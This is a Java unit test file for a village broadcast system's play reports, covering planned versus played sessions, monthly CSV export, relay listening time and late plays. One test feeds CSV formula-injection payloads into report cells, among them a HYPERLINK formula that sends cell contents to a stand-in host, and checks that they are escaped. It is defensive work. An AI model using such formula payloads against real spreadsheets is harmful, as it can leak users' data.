package vn.loalang.controller.report;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import vn.loalang.controller.station.EventLog;
import vn.loalang.controller.station.SqliteEventLog;
import vn.loalang.controller.store.Store;
import vn.loalang.protocol.SchemaVersion;
import vn.loalang.protocol.schedule.EndRule;
import vn.loalang.protocol.schedule.Fallback;
import vn.loalang.protocol.schedule.Item;
import vn.loalang.protocol.schedule.LiveChannelId;
import vn.loalang.protocol.schedule.RelaySpec;
import vn.loalang.protocol.schedule.Schedule;
import vn.loalang.protocol.schedule.Session;
import vn.loalang.protocol.station.EventType;
import vn.loalang.protocol.station.StationEvent;

import java.net.URI;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.time.YearMonth;
import java.time.ZoneId;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Thôn Đông has two stations, Thôn Tây one. On 24 November the morning session (two items) played
 * fully on thon-dong-1, half on thon-dong-2, not at all on thon-tay-1.
 */
class PlayReportsTest {
    static final ZoneId ZONE = ZoneId.of("Asia/Ho_Chi_Minh");
    static final LocalDate NOV_24 = LocalDate.of(2026, 11, 24);
    static final Instant MORNING = NOV_24.atTime(5, 30).atZone(ZONE).toInstant();
    static final Instant COMPILED = MORNING.minusSeconds(3 * 3600);
    static final Instant NOON = MORNING.plusSeconds(6 * 3600);

    @TempDir
    Path dir;
    Store store;
    EventLog log;
    final Map<String, Long> seq = new HashMap<>();

    @BeforeEach
    void open() {
        store = Store.open(dir.resolve("loalang.db"));
        log = new SqliteEventLog(store, java.time.Clock.systemUTC());
    }

    @AfterEach
    void close() {
        store.close();
    }

    @Test
    void setsWhatWasPlannedAgainstWhatEachVillageReportedPlaying() {
        plan("thon-dong-1", "thon-dong", session("morning", MORNING, "gia-lua", "thoi-tiet"));
        plan("thon-dong-2", "thon-dong", session("morning", MORNING, "gia-lua", "thoi-tiet"));
        plan("thon-tay-1", "thon-tay", session("morning", MORNING, "gia-lua", "thoi-tiet"));
        played("thon-dong-1", "2026-11-24.morning", "gia-lua", "thoi-tiet");
        played("thon-dong-2", "2026-11-24.morning", "gia-lua");

        List<SessionReport> rows = new PlayReports(store, ZONE).day(NOV_24, NOON);

        assertEquals(List.of(
                new SessionReport(NOV_24, "2026-11-24.morning", "Buổi sáng", "thon-dong", 2, 1, 4, 3, true),
                new SessionReport(NOV_24, "2026-11-24.morning", "Buổi sáng", "thon-tay", 1, 0, 2, 0, false)), rows);
        ReportSummary summary = PlayReports.summarise(NOV_24, NOV_24, rows);
        assertEquals(0.5, summary.shareReached(), 1e-9);
        assertEquals(6, summary.plannedItems());
        assertEquals(3, summary.playedItems());
    }

    @Test
    void sessionsNotYetStartedAreNotCountedAndAReplacedPlanForgetsCancelledSessions() {
        Session morning = session("morning", MORNING, "gia-lua");
        Session evening = session("evening", MORNING.plusSeconds(11 * 3600 + 30 * 60), "gia-lua");
        plan("thon-tay-1", "thon-tay", morning, evening);
        played("thon-tay-1", "2026-11-24.morning", "gia-lua");

        PlayReports reports = new PlayReports(store, ZONE);
        assertEquals(List.of("2026-11-24.morning"),
                reports.day(NOV_24, NOON).stream().map(SessionReport::sessionId).toList(), "the evening has not started");

        // At noon the evening is cancelled: the new schedule keeps the (past) morning out of its window.
        write(new Schedule(SchemaVersion.CURRENT, "thon-tay-1", "thon-tay", 2, ZONE.getId(), NOON,
                NOON.plusSeconds(86_400), List.of()));
        assertEquals(List.of("2026-11-24.morning"), reports.day(NOV_24, NOON.plusSeconds(86_400)).stream()
                .map(SessionReport::sessionId).toList(), "the cancelled evening is no longer planned; the morning stays");
    }

    @Test
    void aMonthCoversEveryDayOfItAndTheCsvHasOneLinePerVillageSession() {
        plan("thon-tay-1", "thon-tay", session("morning", MORNING, "gia-lua"),
                session("morning-next", MORNING.plusSeconds(86_400), "gia-lua"));
        played("thon-tay-1", "2026-11-24.morning", "gia-lua");

        List<SessionReport> rows = new PlayReports(store, ZONE).month(YearMonth.of(2026, 11), MORNING.plusSeconds(2 * 86_400));
        String csv = PlayReports.csv(rows);

        assertEquals(2, rows.size());
        assertEquals("""
                date,session,name,village,stations,stations_complete,planned_items,played_items,reached,\
                relay_seconds_planned,relay_seconds_played,late_plays
                2026-11-24,2026-11-24.morning,Buổi sáng,thon-tay,1,1,1,1,yes,0,0,0
                2026-11-25,2026-11-24.morning-next,Buổi sáng,thon-tay,1,0,1,0,no,0,0,0
                """, csv);
        assertTrue(PlayReports.quote("Sáng, chiều").startsWith("\""));
    }

    @Test
    void aCellASpreadsheetWouldRunAsAFormulaIsWrittenAsText() {
        List<SessionReport> rows = List.of(new SessionReport(java.time.LocalDate.of(2026, 11, 24), "-2+3",
                "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "@SUM(A1:A9)", 1, 1, 1, 1, true),
                new SessionReport(java.time.LocalDate.of(2026, 11, 24), "+1", "\t=1+1", "\r=2", 1, 0, 1, 0, false));

        String csv = PlayReports.csv(rows);

        assertEquals("date,session,name,village,stations,stations_complete,planned_items,played_items,reached,"
                + "relay_seconds_planned,relay_seconds_played,late_plays\n"
                + "2026-11-24,'-2+3,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\",'@SUM(A1:A9),1,1,1,1,yes,0,0,0\n"
                + "2026-11-24,'+1,'\t=1+1,\"'\r=2\",1,0,1,0,no,0,0,0\n", csv);
        assertEquals("Thôn - Đông", Csv.text("Thôn - Đông"), "a dash inside the text is left alone");
        assertEquals("", Csv.text(""));
    }

    @Test
    void aRelayCountsAsAnItemWithTheSecondsHeardAndLatePlaysAreMarked() {
        // 05:30 gia-lua, then VOV1 05:35-06:05 (30 min); thon-dong-2 hears 20 min of it, then a drop it never
        // recovers from; thon-dong-1 hears 25 min, with a drop and a resume; thon-tay-1 plays a recording late.
        RelaySpec vov1 = new RelaySpec("vov1", "VOV1", URI.create("http://127.0.0.1/live/relay-vov1.mp3"),
                LiveChannelId.relay("vov1"), RelaySpec.CODEC_MP3, MORNING.plusSeconds(300), MORNING.plusSeconds(2100),
                EndRule.FIXED, 10, Fallback.REST_OF_SESSION, null, RelaySpec.RELAY_JITTER_MILLIS);
        Item relay = Item.live("relay-vov1", "VOV1", vov1, 0);
        Item file = session("x", MORNING, "gia-lua").items().get(0);
        Session morning = new Session("2026-11-24.morning", "Buổi sáng", MORNING, MORNING.plusSeconds(3600),
                List.of(file, relay));
        plan("thon-dong-1", "thon-dong", morning);
        plan("thon-dong-2", "thon-dong", morning);
        plan("thon-tay-1", "thon-tay", session("morning", MORNING, "gia-lua", "rec-vov1-20261123-0535"));
        played("thon-dong-1", "2026-11-24.morning", "gia-lua");
        event("thon-dong-1", StationEvent.of(EventType.ITEM_DROPPED).content("relay-vov1").played(600_000));
        event("thon-dong-1", StationEvent.of(EventType.ITEM_RESUMED).content("relay-vov1").played(600_000));
        event("thon-dong-1", StationEvent.of(EventType.ITEM_FINISHED).content("relay-vov1").played(1_500_000));
        played("thon-dong-2", "2026-11-24.morning", "gia-lua");
        event("thon-dong-2", StationEvent.of(EventType.ITEM_DROPPED).content("relay-vov1").played(1_200_000));
        played("thon-tay-1", "2026-11-24.morning", "gia-lua");
        event("thon-tay-1", StationEvent.of(EventType.ITEM_FINISHED).content("rec-vov1-20261123-0535").markedLate());

        List<SessionReport> rows = new PlayReports(store, ZONE).day(NOV_24, NOON);

        assertEquals(List.of(
                new SessionReport(NOV_24, "2026-11-24.morning", "Buổi sáng", "thon-dong", 2, 1, 4, 3, true,
                        3600, 1500 + 1200, 0),
                new SessionReport(NOV_24, "2026-11-24.morning", "Buổi sáng", "thon-tay", 1, 1, 2, 2, true, 0, 0, 1)),
                rows);
        assertTrue(PlayReports.csv(rows).contains(",thon-dong,2,1,4,3,yes,3600,2700,0\n"), PlayReports.csv(rows));
    }

    private void event(String station, StationEvent.Draft draft) {
        long n = seq.merge(station, 1L, Long::sum);
        StationEvent e = draft.session("2026-11-24.morning").numbered(station, "sd-1", n, MORNING.plusSeconds(n));
        log.record(e, new EventLog.Position(station, "sd-1", n, List.of()));
    }

    private Session session(String id, Instant start, String... items) {
        List<Item> list = java.util.Arrays.stream(items).map(i -> new Item(i, i, "a".repeat(64),
                URI.create("http://127.0.0.1/content/x"), 100, 1000, 0)).toList();
        return new Session(LocalDate.ofInstant(MORNING, ZONE) + "." + id, "Buổi sáng", start, start.plusSeconds(3600), list);
    }

    private void plan(String station, String village, Session... sessions) {
        write(new Schedule(SchemaVersion.CURRENT, station, village, 1, ZONE.getId(), COMPILED,
                COMPILED.plusSeconds(7 * 86_400), List.of(sessions)));
    }

    private void write(Schedule schedule) {
        store.transaction(c -> {
            PlannedSessions.write(c, schedule);
            return null;
        });
    }

    private void played(String station, String session, String... items) {
        for (String item : items) {
            long n = seq.merge(station, 1L, Long::sum);
            StationEvent e = StationEvent.of(EventType.ITEM_FINISHED).session(session).content(item)
                    .numbered(station, "sd-1", n, MORNING.plusSeconds(n));
            log.record(e, new EventLog.Position(station, "sd-1", n, List.of()));
        }
    }
}
